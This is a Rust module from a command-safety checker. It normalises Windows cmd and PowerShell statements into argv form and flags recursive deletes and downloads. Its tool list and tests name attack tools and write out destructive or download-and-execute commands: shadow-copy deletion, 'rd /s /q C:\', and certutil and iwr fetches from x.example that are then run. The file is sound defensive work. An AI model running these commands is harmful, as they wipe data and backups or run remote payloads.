//! Native Windows programs and cmd.exe built-ins, as a PowerShell script or a cmd prompt runs
//! them: each statement (`;`, newlines, and cmd's `&`, `&&`, `||`) that starts with a known
//! native program becomes an argv in the shell layer's terms — `.exe` dropped, paths with `/`,
//! `C:\` as `/`, `%USERPROFILE%` / `$env:USERPROFILE` as `~`, `%SystemRoot%` as `/Windows` — so
//! the rule packs judge `vssadmin delete shadows` or `rd /s /q C:\` like any other command.
//! Recursive cmd deletes (`rd /s`, `del /s`) and downloads (`certutil -urlcache -f URL FILE`,
//! `bitsadmin /transfer J URL FILE`) are reported as such.

use super::{Report, Run};

/// Native programs and cmd built-ins whose argv the rule packs read (lower case, no `.exe`).
const NATIVE: &[&str] = &[
    "attrib",
    "bcdedit",
    "bitsadmin",
    "certutil",
    "cipher",
    "cmstp",
    "cscript",
    "curl",
    "del",
    "diskpart",
    "erase",
    "forfiles",
    "format",
    "fsutil",
    "icacls",
    "installutil",
    "msbuild",
    "mshta",
    "msiexec",
    "nc",
    "ncat",
    "net",
    "netsh",
    "pcalua",
    "procdump",
    "procdump64",
    "psexec",
    "psexec64",
    "rd",
    "reg",
    "regsvr32",
    "rmdir",
    "rundll32",
    "sc",
    "schtasks",
    "sdelete",
    "sdelete64",
    "shutdown",
    "takeown",
    "taskkill",
    "vssadmin",
    "wbadmin",
    "wevtutil",
    "winrs",
    "wmic",
    "wscript",
    "wsl",
    "conhost",
    "start",
    "scp",
    "wget",
    "powershell",
    "pwsh",
    "paexec",
];

/// PowerShell verbs of cmdlets that change the machine.
const CHANGING_VERBS: &[&str] = &[
    "add",
    "clear",
    "disable",
    "enable",
    "format",
    "initialize",
    "new",
    "register",
    "remove",
    "restart",
    "set",
    "stop",
    "uninstall",
];

/// The lower-case program name of a word: quotes, directories and `.exe` dropped.
fn program(word: &str) -> String {
    let w = word.trim_matches(['"', '\'']).replace('\\', "/");
    let base = w.rsplit('/').next().unwrap_or(&w).to_ascii_lowercase();
    base.strip_suffix(".exe").unwrap_or(&base).to_string()
}

/// Windows spellings of a path in the shell layer's terms.
pub(super) fn windows_path(word: &str) -> String {
    let mut w = word.trim_matches(['"', '\'']).to_string();
    const VARS: &[(&str, &str)] = &[
        ("%userprofile%", "~"),
        ("$env:userprofile", "~"),
        ("%homepath%", "~"),
        ("$home", "~"),
        ("%appdata%", "~/AppData/Roaming"),
        ("$env:appdata", "~/AppData/Roaming"),
        ("%localappdata%", "~/AppData/Local"),
        ("$env:localappdata", "~/AppData/Local"),
        ("%temp%", "/tmp"),
        ("%tmp%", "/tmp"),
        ("$env:temp", "/tmp"),
        ("$env:tmp", "/tmp"),
        ("%systemroot%", "/Windows"),
        ("%windir%", "/Windows"),
        ("$env:systemroot", "/Windows"),
        ("$env:windir", "/Windows"),
        ("%systemdrive%", ""),
        ("$env:systemdrive", ""),
        ("%programdata%", "/ProgramData"),
        ("$env:programdata", "/ProgramData"),
        ("%programfiles%", "/Program Files"),
        ("$env:programfiles", "/Program Files"),
        ("%public%", "/Users/Public"),
        ("$env:public", "/Users/Public"),
    ];
    let lower = w.to_ascii_lowercase();
    for (var, to) in VARS {
        if lower.starts_with(var) {
            w = format!("{to}{}", &w[var.len()..]);
            break;
        }
    }
    let mut w = w.replace('\\', "/");
    // `C:\Users` is `/Users`; any drive root is a disk's root (`C:\\` too: a one-letter
    // "scheme" is a drive, not a URL).
    let b = w.as_bytes();
    if b.len() >= 2 && b[0].is_ascii_alphabetic() && b[1] == b':' {
        w = w[2..].to_string();
    }
    if w.is_empty() {
        w.push('/');
    }
    // `C:\*.*` is every file.
    if let Some(dir) = w.strip_suffix("*.*") {
        w = format!("{dir}*");
    }
    canonical_case(&w)
}

/// Windows paths ignore case (and PowerShell code is read lower-cased): the system's top-level
/// directories get their usual spelling, `c:\USERS` and `c:\users` both being `/Users`.
fn canonical_case(path: &str) -> String {
    const TOP: &[&str] = &[
        "Users",
        "Windows",
        "Windows/System32",
        "Windows/SysWOW64",
        "ProgramData",
        "Program Files",
        "Program Files (x86)",
        "Boot",
        "Recovery",
    ];
    let Some(rest) = path.strip_prefix('/') else {
        return path.to_string();
    };
    let mut best: Option<&str> = None;
    for top in TOP {
        let n = top.len();
        let fits = rest
            .get(..n)
            .is_some_and(|head| head.eq_ignore_ascii_case(top))
            && matches!(rest.as_bytes().get(n), None | Some(b'/'));
        if fits && best.is_none_or(|b| b.len() < n) {
            best = Some(top);
        }
    }
    match best {
        Some(top) => format!("/{top}{}", &rest[top.len()..]),
        None => path.to_string(),
    }
}

/// Statements of cmd-style text: `;`, newlines, `&`, `&&`, `||` and `|` outside quotes and
/// parentheses. A leading `&` (PowerShell's call operator) stays with its statement.
fn statements(text: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut quote: Option<char> = None;
    let mut depth = 0usize;
    let mut start = 0;
    let bytes = text.as_bytes();
    let mut k = 0;
    while k < bytes.len() {
        let c = bytes[k] as char;
        match (quote, c) {
            (Some(q), c) if c == q => quote = None,
            (Some(_), _) => {}
            (None, '"' | '\'') => quote = Some(c),
            (None, '(' | '{') => depth += 1,
            (None, ')' | '}') => depth = depth.saturating_sub(1),
            (None, ';' | '\n' | '|' | '&') if depth == 0 => {
                let stmt = &text[start..k];
                // `& $cmd` at a statement's start is PowerShell's call operator.
                if c == '&' && stmt.trim().is_empty() {
                    k += 1;
                    start = k;
                    continue;
                }
                out.push(stmt);
                let doubled = bytes.get(k + 1) == Some(&bytes[k]);
                k += if doubled { 2 } else { 1 };
                start = k;
                continue;
            }
            _ => {}
        }
        k += 1;
    }
    out.push(&text[start..]);
    out
}

/// Words of a statement: blanks outside quotes split, quotes kept for `program`.
fn words(stmt: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut quote: Option<char> = None;
    // cmd's escape: outside quotes `^` takes the next character literally (`^r^d` is `rd`).
    let mut escaped = false;
    for c in stmt.chars() {
        if escaped {
            cur.push(c);
            escaped = false;
            continue;
        }
        match (quote, c) {
            (None, '^') => escaped = true,
            (Some(q), c) if c == q => quote = None,
            (Some(_), c) => cur.push(c),
            (None, '"' | '\'') => quote = Some(c),
            (None, c) if c.is_whitespace() => {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
            (None, c) => cur.push(c),
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

/// The value of one of `names` (`-OutFile X`, case-insensitive, abbreviations allowed).
fn named(ws: &[String], names: &[&str]) -> Option<String> {
    ws.windows(2).find_map(|w| {
        let k = w[0].to_ascii_lowercase();
        (k.len() >= 3 && names.iter().any(|n| n.starts_with(k.as_str()))).then(|| w[1].clone())
    })
}

/// The value of one of `names`, or else the first positional argument (every other option is
/// taken to have a value).
fn named_or_first(ws: &[String], names: &[&str]) -> Option<String> {
    named(ws, names).or_else(|| {
        let mut i = 1;
        while i < ws.len() {
            if !ws[i].starts_with('-') {
                return Some(ws[i].clone());
            }
            i += 2;
        }
        None
    })
}

/// Files PowerShell downloads: `Invoke-WebRequest URL -OutFile F` (`iwr`, `irm`, and `curl`/
/// `wget` as its aliases), `Start-BitsTransfer -Source URL -Destination F`,
/// `(New-Object Net.WebClient).DownloadFile('URL', 'F')`.
fn downloads(stmt: &str, ws: &[String], r: &mut Report) {
    static DOWNLOAD_FILE: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    let re = DOWNLOAD_FILE.get_or_init(|| {
        regex::Regex::new(r#"(?i)downloadfile\(\s*["']([^"']+)["']\s*,\s*["']?([^"')]+)"#)
            .expect("static regex")
    });
    for c in re.captures_iter(stmt) {
        r.downloads
            .push((windows_path(c[2].trim()), c[1].to_string()));
    }
    let Some(first) = ws.first() else { return };
    let name = first.to_ascii_lowercase();
    let (url_names, file_names): (&[&str], &[&str]) = match name.as_str() {
        "invoke-webrequest" | "iwr" | "invoke-restmethod" | "irm" | "curl" | "wget" => {
            (&["-uri"], &["-outfile"])
        }
        "start-bitstransfer" => (&["-source"], &["-destination"]),
        _ => return,
    };
    let url = named(ws, url_names).or_else(|| ws.iter().find(|w| w.contains("://")).cloned());
    if let (Some(url), Some(file)) = (url, named(ws, file_names)) {
        r.downloads.push((windows_path(&file), url));
    }
}

/// A cmd switch (`/s`, `/q`, `/a:h`, `/f`) rather than a path.
/// Switches written together (`/s/q` is `/s /q` to cmd); any other word as it is.
fn split_switches(w: &str) -> Vec<String> {
    let parts: Vec<&str> = w.split('/').skip(1).collect();
    let together = w.starts_with('/')
        && parts.len() > 1
        && parts
            .iter()
            .all(|p| (1..=2).contains(&p.len()) && p.bytes().all(|c| c.is_ascii_alphabetic()));
    if together {
        parts.iter().map(|p| format!("/{p}")).collect()
    } else {
        vec![w.to_string()]
    }
}

fn is_switch(w: &str) -> bool {
    let b = w.as_bytes();
    b.len() >= 2
        && b[0] == b'/'
        && b[1].is_ascii_alphabetic()
        && (b.len() == 2
            || b[2] == b':'
            || (b.len() <= 4 && w[1..].bytes().all(|c| c.is_ascii_alphabetic())))
}

/// Analyse the native commands of PowerShell or cmd text (original case).
pub(super) fn native(code: &str, r: &mut Report) {
    let mut previous = String::new();
    for stmt in statements(code) {
        let mut ws = words(stmt);
        // `cmd /c …`, `cmd.exe /k …`, `conhost --headless …`, `start "" /b …`: the command after.
        while let Some(first) = ws.first() {
            let name = program(first);
            let skip = match name.as_str() {
                "cmd" => ws
                    .iter()
                    .position(|w| matches!(w.to_ascii_lowercase().as_str(), "/c" | "/k" | "/r"))
                    .map(|i| i + 1),
                "conhost" => Some(1 + usize::from(ws.get(1).is_some_and(|w| w == "--headless"))),
                "start" => Some(
                    1 + ws[1..]
                        .iter()
                        .take_while(|w| w.is_empty() || is_switch(w))
                        .count(),
                ),
                _ => None,
            };
            match skip {
                Some(n) if n < ws.len() => {
                    ws.drain(..n);
                }
                Some(_) => ws.clear(),
                None => break,
            }
            if ws.len() == 1 {
                // `cmd /c "rd /s /q C:\"`: one quoted command line.
                let inner = ws[0].clone();
                if inner.contains(char::is_whitespace) {
                    native(&inner, r);
                    ws.clear();
                }
            }
        }
        downloads(stmt, &ws, r);
        let Some(first) = ws.first() else { continue };
        let name = program(first);
        // `Start-Process x.exe -ArgumentList …`: the program it starts runs.
        if name == "start-process" || name == "saps" {
            if let Some(file) = named_or_first(&ws, &["-filepath"]) {
                let argv0 = if file.contains(['/', '\\', '%', '$']) {
                    windows_path(&file)
                } else {
                    program(&file)
                };
                r.runs
                    .push((Run::Argv(vec![argv0]), "Start-Process".into()));
            }
            continue;
        }
        // `New-Partition … | Format-Volume`: formatting the partition just created.
        let fresh = previous == "new-partition" && name == "format-volume";
        previous = name.clone();
        if fresh {
            continue;
        }
        // A program or script named by its file: `x.exe`, `.\setup.ps1`, `C:\t\run.bat`.
        let explicit_exe = {
            let f = first.to_ascii_lowercase();
            let f = f.trim_matches(['"', '\'']);
            f.starts_with(".\\")
                || f.starts_with("./")
                || [
                    ".exe", ".ps1", ".bat", ".cmd", ".vbs", ".msi", ".com", ".scr",
                ]
                .iter()
                .any(|e| f.ends_with(e))
        };
        // `Set-MpPreference -Disable…`, `Clear-Disk -Number 0`: cmdlets whose verb changes
        // something (reading ones such as `Get-ChildItem` have nothing to judge).
        let cmdlet = name.split_once('-').is_some_and(|(verb, noun)| {
            CHANGING_VERBS.contains(&verb)
                && noun.len() > 1
                && noun.bytes().all(|c| c.is_ascii_alphabetic())
        });
        if !NATIVE.contains(&name.as_str()) && !explicit_exe && !cmdlet {
            continue;
        }
        let args: Vec<String> = ws[1..]
            .iter()
            .flat_map(|w| split_switches(w))
            .map(|w| {
                if w.starts_with("-") || is_switch(&w) {
                    w
                } else {
                    windows_path(&w)
                }
            })
            .collect();
        let lower: Vec<String> = args.iter().map(|a| a.to_ascii_lowercase()).collect();
        let has = |s: &str| lower.iter().any(|a| a == s);
        match name.as_str() {
            "rd" | "rmdir" | "del" | "erase" if has("/s") => {
                for target in args.iter().filter(|a| !is_switch(a)) {
                    r.deletes.push((target.clone(), format!("{name} /s")));
                }
            }
            "certutil" if has("-urlcache") || has("/urlcache") || has("-verifyctl") => {
                let pos: Vec<&String> = args
                    .iter()
                    .filter(|a| !a.starts_with('-') && !is_switch(a))
                    .collect();
                if let Some(url) = pos.iter().find(|a| a.contains("://")) {
                    let file = pos.iter().find(|a| !a.contains("://")).map_or_else(
                        || url.rsplit('/').next().unwrap_or("").to_string(),
                        |f| f.to_string(),
                    );
                    r.downloads.push((file, url.to_string()));
                }
            }
            "bitsadmin" if has("/transfer") || has("/addfile") => {
                if let Some(i) = args.iter().position(|a| a.contains("://")) {
                    if let Some(file) = args.get(i + 1) {
                        r.downloads.push((file.clone(), args[i].clone()));
                    }
                }
            }
            _ => {}
        }
        // A program named by its path (`%TEMP%\x.exe`) keeps the path: it may be a download.
        let bare = !first.contains(['/', '\\', '%', '$']);
        let argv0 = if NATIVE.contains(&name.as_str()) || cmdlet || bare {
            name
        } else {
            windows_path(first)
        };
        let mut argv = vec![argv0];
        argv.extend(args);
        r.runs
            .push((Run::Argv(argv), "a native Windows command".into()));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn argvs(code: &str) -> Vec<String> {
        let mut r = Report::default();
        native(code, &mut r);
        r.runs
            .into_iter()
            .filter_map(|(run, _)| match run {
                Run::Argv(a) => Some(a.join(" ")),
                Run::Shell(_) => None,
            })
            .collect()
    }

    #[test]
    fn system_directories_get_their_usual_case() {
        assert_eq!(windows_path(r"c:\users"), "/Users");
        assert_eq!(
            windows_path(r"C:\WINDOWS\system32\drivers"),
            "/Windows/System32/drivers"
        );
        assert_eq!(
            windows_path(r"c:\program files (x86)\app"),
            "/Program Files (x86)/app"
        );
        assert_eq!(windows_path(r"c:\usersdata"), "/usersdata");
        assert_eq!(windows_path(r"D:\src\app"), "/src/app");
        assert_eq!(windows_path(r"C:\\"), "//");
    }

    #[test]
    fn paths_in_shell_terms() {
        assert_eq!(windows_path(r"C:\"), "/");
        assert_eq!(windows_path(r"C:\Users"), "/Users");
        assert_eq!(windows_path(r"%USERPROFILE%\.ssh\id_rsa"), "~/.ssh/id_rsa");
        assert_eq!(
            windows_path(r"$env:SystemRoot\System32"),
            "/Windows/System32"
        );
        assert_eq!(windows_path(r"C:\*.*"), "/*");
        assert_eq!(windows_path("https://x.example/a"), "https://x.example/a");
    }

    #[test]
    fn statements_and_wrappers() {
        assert_eq!(
            argvs(
                r#"cmd /c "vssadmin delete shadows /all /quiet" & wbadmin delete catalog -quiet"#
            ),
            [
                "vssadmin delete shadows /all /quiet",
                "wbadmin delete catalog -quiet"
            ]
        );
        assert_eq!(argvs("start /b bash.exe -c id"), ["bash -c id"]);
        assert_eq!(
            argvs("Get-ChildItem -Force; Stop-Computer -Force; git status"),
            ["stop-computer -Force"]
        );
    }

    #[test]
    fn deletes_and_downloads() {
        let mut r = Report::default();
        native(r"rd /s /q C:\ & del /f /s /q %USERPROFILE%\*", &mut r);
        native(
            r"certutil -urlcache -split -f http://x.example/a.exe %TEMP%\a.exe && %TEMP%\a.exe",
            &mut r,
        );
        let deletes: Vec<&str> = r.deletes.iter().map(|d| d.0.as_str()).collect();
        assert_eq!(deletes, ["/", "~/*"]);
        assert_eq!(
            r.downloads,
            [(
                "/tmp/a.exe".to_string(),
                "http://x.example/a.exe".to_string()
            )]
        );
        let mut r2 = Report::default();
        native(
            r"iwr https://x.example/s.exe -OutFile $env:TEMP\s.exe; Start-Process $env:TEMP\s.exe",
            &mut r2,
        );
        assert_eq!(r2.downloads[0].0, "/tmp/s.exe");
        assert!(matches!(&r2.runs[0].0, Run::Argv(a) if a[0] == "/tmp/s.exe"));
        // `rd build` (not recursive) deletes nothing recursively.
        let mut r = Report::default();
        native(r"rd build", &mut r);
        assert!(r.deletes.is_empty());
    }
}
